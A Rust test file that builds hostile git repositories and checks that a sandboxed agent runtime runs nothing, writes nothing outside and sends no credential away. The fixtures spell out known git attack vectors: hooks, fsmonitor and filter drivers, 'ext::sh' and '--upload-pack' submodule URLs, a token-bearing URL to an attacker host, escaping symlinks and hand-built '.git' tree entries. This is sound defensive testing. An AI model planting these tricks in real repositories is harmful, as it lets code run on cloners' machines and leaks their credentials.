//! Repositories that try to run something, to write elsewhere, or to send the credential to another host.

use std::io::Write as _;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::json;

use crate::page::{self, Result, assert_hides};
use crate::scene::{SessionOf, note, session_id, told};
use crate::support::git_server::{GitServer, git};
use crate::support::process_scan::ProcessScan;
use crate::support::runtime::{Runtime, script, workspace};
use crate::support::{Folder, files_with, processes_of, token, until};

const WORKS: &str = "works, and runs and sends nothing";
const FAILS: &str = "fails, and runs and sends nothing";

/// What a repository holds, and what is expected.
const ROWS: &[(&str, &str)] = &[
    ("hooks in .githooks, hooks and .git-hooks", WORKS),
    ("a filter for every file", WORKS),
    ("a driver for merges and differences", WORKS),
    ("a .gitconfig, a .lfsconfig and a .netrc", WORKS),
    ("a submodule whose URL is ext::sh", WORKS),
    ("a submodule whose URL is a file", WORKS),
    ("a submodule whose URL is an option", WORKS),
    ("a submodule on another host", WORKS),
    (
        "a submodule on another host with the first one's user name",
        WORKS,
    ),
    ("a submodule above its parent", WORKS),
    ("a submodule whose path ends in a carriage return", WORKS),
    ("a submodule whose update is a command", WORKS),
    ("a link to a file outside", WORKS),
    ("a link to a folder outside", WORKS),
    ("a link in the place of the agent's notes", FAILS),
    ("a link in the place of .gitattributes", WORKS),
    ("names with escapes, line feeds and quotes", WORKS),
    ("a name that is an option", WORKS),
    ("an entry named .git", FAILS),
    ("an entry named .GIT", FAILS),
    ("an entry named git~1", FAILS),
    ("an entry named ..", FAILS),
    ("an entry with a slash in its name", FAILS),
    ("an entry named .git with an invisible character", WORKS),
];

/// Works as agents do: updates submodules, looks around, and notes something.
const AGENT: &str = r"cat > /dev/null
    git submodule update --init --recursive > /dev/null 2>&1
    git status > /dev/null; git diff HEAD > /dev/null; git log -p > /dev/null 2>&1
    git fetch --quiet origin
    [ -L NOTES.md ] && exit 3
    echo noted >> NOTES.md";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_repositories_run_nothing_and_send_nothing() {
    let (server, attacker) = (GitServer::start().await, GitServer::start().await);
    let (root, loot, token) = (Folder::new(), Folder::new(), token());
    server.allow(&token);
    let (host, agent) = (server.host(), script(AGENT, root.path()));
    let env = [
        ("DEV_ALLOWED_HOSTS", &*host),
        ("AGENT_COMMAND", &*agent),
        ("RUNTIME_TEST_DEADLINES", r#"{"lowSpeedMs":5000}"#),
    ];
    let scan = ProcessScan::start(vec![token.clone()]);
    let runtime = Runtime::start(root.path(), &env).await;
    let (mut results, mut wrong) = (Vec::new(), Vec::new());
    for (number, (holds, expected)) in (0..).zip(ROWS) {
        let name = format!("hostile-{number}");
        server.create(&name, &[("main", "README.md", "hello\n")]);
        fill(holds, &server, &name, loot.path(), &attacker.host());
        let before = listing(loot.path());
        let session = SessionOf::new(&runtime, &session_id(number));
        session
            .put_workspace(workspace(&server.url(&name), 1, &token))
            .await;
        session.put_turn(1, 1, json!({ "autoCommit": true })).await;
        let end = session.end(1).await;
        let verdict = if end["type"] == "complete" {
            WORKS
        } else {
            FAILS
        };
        note(&mut wrong, &format!("{holds}: {end}"), verdict, *expected);
        note(&mut wrong, holds, &listing(loot.path()), &before);
        for event in session.events().await {
            assert_hides(&event.to_string(), &token);
        }
        results.push(Result {
            input: (*holds).to_owned(),
            expected: (*expected).to_owned(),
            seen: told(&end),
        });
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert_eq!(scan.finish().leaks, Vec::<String>::new());
    assert_hides(&runtime.log(), &token);
    // A user name in a URL comes with an empty password.
    let sent = attacker.seen().into_iter().filter_map(|seen| seen.token);
    assert_eq!(sent.collect::<String>(), "");
    until("everything is gone", || {
        processes_of(&runtime.store).is_empty()
    })
    .await;
    let elsewhere = files_with(root.path(), &[&token]).into_iter();
    let own = ["runtime/credential", "credential/token"];
    let elsewhere: Vec<_> = elsewhere
        .filter(|path| !own.iter().any(|own| path.ends_with(own)))
        .collect();
    assert_eq!(elsewhere, Vec::<std::path::PathBuf>::new());
    page::check("repositories", &results);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_private_submodule_of_the_same_host_is_cloned_by_the_agent() {
    let (server, root) = (GitServer::start().await, Folder::new());
    server.create("sub", &[("main", "SUB.md", "sub\n")]);
    server.create("super", &[("main", "README.md", "hello\n")]);
    let folder = server.path("super-work").with_extension("");
    add_submodule(&folder, "s", "s", &server.url("sub"), "");
    commit(&folder);
    let update = "cat > /dev/null; git submodule update --init 2>&1; cat s/SUB.md";
    let (host, agent) = (server.host(), script(update, root.path()));
    let env = [("DEV_ALLOWED_HOSTS", &*host), ("AGENT_COMMAND", &*agent)];
    let runtime = Runtime::start(root.path(), &env).await;
    for generation in [1, 2] {
        let token = server.issue();
        let body = workspace(&server.url("super"), generation, &token);
        runtime.put_workspace(body).await;
        let number = u32::try_from(generation).expect("small");
        runtime
            .put_turn(number, generation, generation, json!({}))
            .await;
        runtime.wait_for("complete", number).await;
        assert!(runtime.repo().join("s/SUB.md").exists());
        server.revoke(&token);
        // The next turn clones it anew, with the credential of then.
        std::fs::remove_dir_all(runtime.repo().join("s")).expect("it is there");
        std::fs::remove_dir_all(runtime.repo().join(".git/modules")).expect("it is there");
        assert!(files_with(&runtime.session().join("home"), &[&token]).is_empty());
    }
}

/// Everything below a folder, with what is in it.
fn listing(folder: &Path) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).expect("it is there").flatten() {
        let path = entry.path();
        if path.is_dir() {
            found.extend(listing(&path));
        }
        let content = std::fs::read(&path).unwrap_or_default();
        found.push((path, content));
    }
    found.sort();
    found
}

fn commit(folder: &Path) {
    git(folder, &["add", "--all"]);
    git(folder, &["commit", "--quiet", "--message", "hostile"]);
    git(folder, &["push", "--quiet", "origin", "HEAD:main"]);
}

fn add_submodule(folder: &Path, name: &str, path: &str, url: &str, more: &str) {
    let submodule = format!("[submodule \"{name}\"]\n\tpath = {path}\n\turl = {url}\n{more}");
    std::fs::write(folder.join(".gitmodules"), submodule).expect("it is written");
    let sub = folder.with_file_name("sub-work");
    let commit = if sub.exists() {
        git(&sub, &["rev-parse", "HEAD"])
    } else {
        git(folder, &["rev-parse", "HEAD"])
    };
    let place = path.trim_matches('"');
    // Git takes a submodule without a folder for a removed one.
    std::fs::create_dir(folder.join(place)).expect("it is new");
    let entry = format!("160000,{commit},{place}");
    git(folder, &["update-index", "--add", "--cacheinfo", &entry]);
}

fn write(folder: &Path, name: &str, content: &str) {
    let path = folder.join(name);
    std::fs::create_dir_all(path.parent().expect("it has one")).expect("it is made");
    std::fs::write(&path, content).expect("it is written");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("it is there");
}

/// Puts what a row says into a repository.
fn fill(holds: &str, server: &GitServer, name: &str, loot: &Path, attacker: &str) {
    let folder = server.path(&format!("{name}-work")).with_extension("");
    let run = format!("#!/bin/sh\ntouch {}/ran\n", loot.display());
    let command = format!("touch {}/ran", loot.display());
    let submodule = |url: &str, more: &str| add_submodule(&folder, "s", "s", url, more);
    match holds {
        "hooks in .githooks, hooks and .git-hooks" => {
            for place in [".githooks", "hooks", ".git-hooks"] {
                for hook in [
                    "post-checkout",
                    "pre-commit",
                    "reference-transaction",
                    "pre-push",
                ] {
                    write(&folder, &format!("{place}/{hook}"), &run);
                }
            }
        }
        "a filter for every file" => write(&folder, ".gitattributes", "* filter=evil text\n"),
        "a driver for merges and differences" => {
            write(&folder, ".gitattributes", "* diff=evil merge=evil\n");
        }
        "a .gitconfig, a .lfsconfig and a .netrc" => {
            let config =
                format!("[core]\n\tfsmonitor = {command}\n[lfs]\n\turl = http://{attacker}/\n");
            write(&folder, ".gitconfig", &config);
            write(&folder, ".lfsconfig", &config);
            write(&folder, ".netrc", "machine 127.0.0.1 login x password y\n");
        }
        "a submodule whose URL is ext::sh" => submodule(&format!("ext::sh -c \"{command}\""), ""),
        "a submodule whose URL is a file" => submodule("file:///etc", ""),
        "a submodule whose URL is an option" => submodule(&format!("--upload-pack={command}"), ""),
        "a submodule on another host" => submodule(&format!("http://{attacker}/r.git"), ""),
        "a submodule on another host with the first one's user name" => {
            submodule(&format!("http://x-access-token@{attacker}/r.git"), "");
        }
        "a submodule above its parent" => submodule("../../../../etc/x", ""),
        "a submodule whose path ends in a carriage return" => {
            add_submodule(&folder, "s", "\"s\r\"", &server.url("r"), "");
        }
        "a submodule whose update is a command" => {
            submodule(&server.url("r"), &format!("\tupdate = !{command}\n"));
        }
        "a link to a file outside" => link(&loot.join("file"), &folder.join("file")),
        "a link to a folder outside" => link(loot, &folder.join("folder")),
        "a link in the place of the agent's notes" => {
            link(&loot.join("notes"), &folder.join("NOTES.md"));
        }
        "a link in the place of .gitattributes" => {
            link(&loot.join("attributes"), &folder.join(".gitattributes"));
        }
        "names with escapes, line feeds and quotes" => {
            for name in ["a\nb", "a\u{1b}[31mb", "a\"b", "a'b", "$(id)", "é", "a\\b"] {
                write(&folder, name, "x");
            }
        }
        "a name that is an option" => {
            for name in ["--upload-pack=x", "-rf", "--", "-"] {
                write(&folder, name, "x");
            }
        }
        "an entry named .git" => return push_tree(&folder, ".git", &run),
        "an entry named .GIT" => return push_tree(&folder, ".GIT", &run),
        "an entry named git~1" => return push_tree(&folder, "git~1", &run),
        "an entry named .." => return push_tree(&folder, "..", &run),
        "an entry with a slash in its name" => return push_tree(&folder, "../x", &run),
        "an entry named .git with an invisible character" => {
            return push_tree(&folder, ".g\u{200c}it", &run);
        }
        _ => panic!("nothing is known of {holds}"),
    }
    commit(&folder);
}

fn link(target: &Path, place: &Path) {
    symlink(target, place).expect("it is new");
}

/// Pushes a commit with a folder of this name that holds a hook. Git makes no such tree, so it is written by hand.
fn push_tree(folder: &Path, name: &str, hook: &str) {
    let blob = object(folder, "blob", hook.as_bytes());
    let hooks = object(folder, "tree", &entry("100755", "post-checkout", &blob));
    let inner = object(folder, "tree", &entry("40000", "hooks", &hooks));
    let outer = object(folder, "tree", &entry("40000", name, &inner));
    let commit = git(folder, &["commit-tree", "-m", "hostile", &outer]);
    git(
        folder,
        &[
            "push",
            "--quiet",
            "--force",
            "origin",
            &format!("{commit}:refs/heads/main"),
        ],
    );
}

fn entry(mode: &str, name: &str, id: &str) -> Vec<u8> {
    let digits = id.as_bytes().chunks(2);
    let bytes = digits.map(|pair| {
        let pair = std::str::from_utf8(pair).expect("digits");
        u8::from_str_radix(pair, 16).expect("digits")
    });
    format!("{mode} {name}\0")
        .into_bytes()
        .into_iter()
        .chain(bytes)
        .collect()
}

fn object(folder: &Path, kind: &str, content: &[u8]) -> String {
    let mut child = Command::new("git")
        .current_dir(folder)
        .args(["hash-object", "-w", "--literally", "--stdin", "-t", kind])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("git runs");
    let mut input = child.stdin.take().expect("it is piped");
    input.write_all(content).expect("it reads");
    drop(input);
    let output = child.wait_with_output().expect("it ends");
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}
